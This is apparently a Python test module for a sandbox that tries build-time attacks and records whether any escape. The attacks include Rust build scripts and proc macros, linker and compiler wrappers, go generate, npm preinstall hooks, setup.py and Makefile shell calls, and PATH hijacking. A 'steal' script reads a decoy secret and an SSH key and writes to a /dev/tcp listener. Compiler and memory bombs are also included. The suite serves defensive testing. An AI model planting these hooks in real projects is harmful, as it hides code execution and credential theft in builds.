"""Attacks that happen while something is built: build scripts, macros, generators, linkers.

Rule 1: each reads a decoy and calls a listener; the outside judges by what it was shown.
Rule 2: a language that this machine lacks is not attacked, and is not counted as held.
"""

from __future__ import annotations

import asyncio
from collections.abc import Awaitable, Callable, Iterator
from typing import NamedTuple

from headgate.sandbox.language import Missing
from headgate.sandbox.model import File, Limits, Order, Result, Runtime, Status, Step

from .decoys import Decoys
from .kit import World

BUILDING = "while something is built"
LIMITS = Limits(wall_s=20.0, memory_mb=1024, processes=128, disk_mb=256, file_mb=128)
OF_BOMBS = Limits(wall_s=1.5, memory_mb=512, processes=128, disk_mb=128, file_mb=64)
GRACE_MS = 2000.0
_STEAL = (
    "#!/bin/bash\n"
    "cat {secret}\n"
    "cat {home}/.ssh/id_ed25519\n"
    "(echo {name} > /dev/tcp/127.0.0.1/{port}) 2>/dev/null\n"
    "echo x > {folder}/overwritten\n"
    "exit 1\n"
)


class Project(NamedTuple):
    """Something that attacks when it is built."""

    name: str
    language: str
    command: str
    """for a shell, in the work folder, in which `steal` is a program"""
    files: tuple[tuple[str, str], ...] = ()
    is_bomb: bool = False
    """it does not steal: it has got out if it is not ended in time"""


_READ_IN_RUST = 'panic!("{{}}", std::fs::read_to_string("{secret}").unwrap())'
_MANIFEST = '[package]\nname = "x"\nversion = "0.1.0"\nedition = "2021"\n'
_GO = "package main\n\nfunc main() {{}}\n"
PROJECTS = (
    Project(
        "include a file of the host in a Rust program",
        "rust",
        "rustc a.rs -o a.out && ./a.out",
        (("a.rs", 'fn main() {{ print!("{{}}", include_str!("{secret}")) }}'),),
    ),
    Project(
        "run a program as the linker of Rust",
        "rust",
        "rustc -C linker=./steal a.rs",
        (("a.rs", "fn main() {{}}"),),
    ),
    Project(
        "run code in a macro of Rust",
        "rust",
        "rustc --edition=2021 --crate-type proc-macro m.rs && rustc --extern m=libm.so a.rs",
        (
            (
                "m.rs",
                "extern crate proc_macro;\nuse proc_macro::TokenStream;\n#[proc_macro]\n"
                f"pub fn m(_: TokenStream) -> TokenStream {{{{ {_READ_IN_RUST} }}}}\n",
            ),
            ("a.rs", "m::m!();\nfn main() {{}}"),
        ),
    ),
    Project(
        "run code in a build script of Rust",
        "rust",
        "CARGO_HOME=$TMPDIR cargo build --offline",
        (
            ("Cargo.toml", _MANIFEST),
            ("src/main.rs", "fn main() {{}}"),
            ("build.rs", f"fn main() {{{{ {_READ_IN_RUST} }}}}"),
        ),
    ),
    Project(
        "run a program that generates Go",
        "go",
        "GO111MODULE=off go generate a.go",
        (("a.go", "package main\n\n//go:generate ./steal\n\nfunc main() {{}}\n"),),
    ),
    Project(
        "run a program as a tool of the Go compiler",
        "go",
        "GO111MODULE=off go build -toolexec=$PWD/steal a.go",
        (("a.go", _GO),),
    ),
    Project(
        "show a file of the host as bad C in Go",
        "go",
        "CGO_ENABLED=1 go tool cgo a.go",
        (
            (
                "a.go",
                'package main\n\n// #include "{secret}"\nimport "C"\n\nfunc main() {{}}\n',
            ),
        ),
    ),
    Project(
        "run a program when a package of JavaScript is installed",
        "javascript",
        "npm install --offline --no-audit --no-fund --foreground-scripts",
        (("package.json", '{{"name": "x", "scripts": {{"preinstall": "./steal"}}}}'),),
    ),
    Project(
        "load code before a JavaScript program begins",
        "javascript",
        "NODE_OPTIONS='--require ./first.js' node a.js",
        (
            ("first.js", "console.log(require('fs').readFileSync('{secret}', 'utf8'));"),
            ("a.js", ""),
        ),
    ),
    Project(
        "run code while a package of Python is built",
        "python",
        "PATH=$PATH:/usr/bin python3 setup.py build",
        (("setup.py", "print(open('{secret}').read())"),),
    ),
    Project(
        "run a program while a Makefile is read",
        "bash",
        "make -f m; cat out; cc -E a.c",
        (("m", "X := $(shell ./steal > out)\nall:\n"), ("a.c", '#include "{secret}"\n')),
    ),
    Project(
        "put a program of its own before those of the system",
        "bash",
        "cp steal ls; PATH=.:$PATH ls; BASH_ENV=./steal bash -c true",
    ),
    Project(
        "wrap the compiler of Rust by a setting in the work folder",
        "rust",
        "CARGO_HOME=$TMPDIR cargo build --offline",
        (
            ("Cargo.toml", _MANIFEST),
            ("src/main.rs", "fn main() {{}}"),
            (".cargo/config.toml", '[build]\nrustc-wrapper = "./steal"\n'),
        ),
    ),
    Project(
        "embed a file of the host in a Go program",
        "go",
        "ln -s {secret} s.txt; ln {secret} h.txt; GO111MODULE=off go run a.go",
        (
            (
                "a.go",
                'package main\n\nimport _ "embed"\n\n//go:embed h.txt\nvar text string\n\n'
                "func main() {{ print(text) }}\n",
            ),
        ),
    ),
    Project(
        "run scripts of a package by a shell of its own",
        "javascript",
        "npm run x --offline",
        (
            (".npmrc", "script-shell=./steal\n"),
            ("package.json", '{{"name": "x", "scripts": {{"x": "true"}}}}'),
        ),
    ),
    Project(
        "start code with every Python by a file in the work folder",
        "python",
        "PYTHONPATH=. PYTHONSTARTUP=./sitecustomize.py python3 -c 1",
        (("sitecustomize.py", "print(open('{secret}').read())"),),
    ),
    Project(
        "start code with every R by a file in the work folder",
        "r",
        "Rscript a.R",
        ((".Rprofile", "writeLines(readLines('{secret}'))"), ("a.R", "1")),
    ),
    Project(
        "put a file of the host into a program by the assembler",
        "bash",
        "as -o a.o a.s && cat a.o",
        (("a.s", '.incbin "{secret}"\n'),),
    ),
    Project(
        "include a file without end",
        "bash",
        "cc -E a.c > a.i",
        (("a.c", '#include "/dev/zero"\n'),),
        is_bomb=True,
    ),
    Project(
        "expand a macro without end",
        "bash",
        "cc -E a.c > a.i",
        (
            (
                "a.c",
                "#define A(x) x x x x x x x x\n#define B(x) A(A(A(A(x))))\nB(B(B(B(B(1)))))\n",
            ),
        ),
        is_bomb=True,
    ),
    Project(
        "reckon without end while Rust is compiled",
        "rust",
        "rustc a.rs",
        (
            (
                "a.rs",
                "#![allow(long_running_const_eval)]\nconst fn f() -> u64 {{ let mut n = 0u64;"
                " loop {{ n = n.wrapping_add(1); }} }}\nconst X: u64 = f();\n"
                'fn main() {{ print!("{{}}", X) }}\n',
            ),
        ),
        is_bomb=True,
    ),
    Project(
        "lay out an array that no machine holds",
        "go",
        "GO111MODULE=off go build a.go",
        (
            (
                "a.go",
                "package main\n\nvar x = [1 << 32]byte{{1 << 31: 1}}\n\n"
                "func main() {{ print(x[0]) }}\n",
            ),
        ),
        is_bomb=True,
    ),
)

Carry = Callable[[Order, str], Awaitable[Result]]
Look = Callable[[str], Runtime | Missing]


class Built(NamedTuple):
    """What came of building."""

    name: str
    family: str
    escaped: bool
    evidence: str


async def besiege(
    carry: Carry, look: Look, projects: tuple[Project, ...] = PROJECTS
) -> tuple[Built, ...]:
    """Build every project whose language this machine has."""
    decoys = Decoys()
    await asyncio.to_thread(decoys.__enter__)
    said: dict[str, str] = {}
    names: list[Project] = []
    try:
        for project in projects:
            runtime = await asyncio.to_thread(look, project.language)
            if isinstance(runtime, Missing):
                continue
            names.append(project)
            order = order_of(project, runtime, decoys.world)
            result = await carry(order, "builder")
            said[project.name] = shown(result, decoys.world, order.limits)
        seen = await asyncio.to_thread(decoys.reached)
    finally:
        await asyncio.to_thread(decoys.__exit__, None, None, None)
    return tuple(_judged(it, said, seen) for it in names)


def order_of(project: Project, runtime: Runtime, world: World) -> Order:
    """How it is built: a program even where the language forks its interpreter."""
    command = project.command.replace("{secret}", world.at("secret"))
    step = Step("build", argv=("/bin/bash", "-c", command), is_build=True)
    limits = OF_BOMBS if project.is_bomb else LIMITS
    return Order(runtime, (step,), tuple(_laid(project, world)), limits)


def shown(result: Result, world: World, limits: Limits = LIMITS) -> str:
    """The evidence in what was printed, or that it outlived its time; "": there is none."""
    if result.execution_ms > limits.wall_s * 1000 + GRACE_MS:
        return f"it held the run for {result.execution_ms:.0f} ms"
    if result.status == Status.BROKEN:
        return f"the sandbox broke: {result.stderr[-100:]}"
    printed = result.stdout + result.stderr
    return "the decoy was printed" if world.token in printed else ""


def _laid(project: Project, world: World) -> Iterator[File]:
    words = {
        "secret": world.at("secret"),
        "home": world.at("home"),
        "folder": world.folder,
        "port": world.tcp,
        "name": project.name,
    }
    yield File("steal", _STEAL.format(**words).encode(), executable=True)
    for path, text in project.files:
        yield File(path, text.format(**words).encode())


def _judged(project: Project, said: dict[str, str], seen: dict[str, str]) -> Built:
    evidence = seen.get(project.name) or said[project.name]
    words = evidence or "nothing was shown, and nobody called"
    return Built(project.name, BUILDING, bool(evidence), words)
